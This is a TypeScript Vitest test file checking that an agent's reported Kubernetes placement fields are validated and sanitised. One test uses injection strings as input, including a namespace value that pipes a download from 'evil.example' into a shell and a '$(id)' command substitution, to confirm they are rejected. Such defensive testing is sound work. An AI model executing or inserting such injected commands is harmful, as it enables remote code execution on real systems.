import { describe, expect, it } from "vitest";

import { boundedPlacement, placementToWire, samePlacement } from "./agent-placement.js";

describe("where an agent says it runs", () => {
  it("keeps Kubernetes names and a chart version", () => {
    const said = {
      namespace: "infra",
      pod: "edge-0",
      statefulSet: "edge",
      helmRelease: "edge",
      chartVersion: "1.2.3+build.4",
    };
    expect(boundedPlacement(said)).toEqual(said);
  });

  it("drops anything that is not a name, so doctor never prints it as part of a command", () => {
    expect(
      boundedPlacement({
        namespace: "warren; curl evil.example | sh",
        pod: "Edge-0",
        statefulSet: "x".repeat(254),
        helmRelease: "",
        chartVersion: "$(id)",
      }),
    ).toEqual({});
    expect(boundedPlacement(undefined)).toEqual({});
  });

  it("compares field by field, and fills the wire form's blanks", () => {
    expect(samePlacement({ pod: "a-0" }, { pod: "a-0" })).toBe(true);
    expect(samePlacement({ pod: "a-0" }, { pod: "a-0", namespace: "x" })).toBe(false);
    expect(placementToWire({ pod: "a-0" })).toEqual({
      namespace: "",
      pod: "a-0",
      statefulSet: "",
      helmRelease: "",
      chartVersion: "",
    });
  });
});
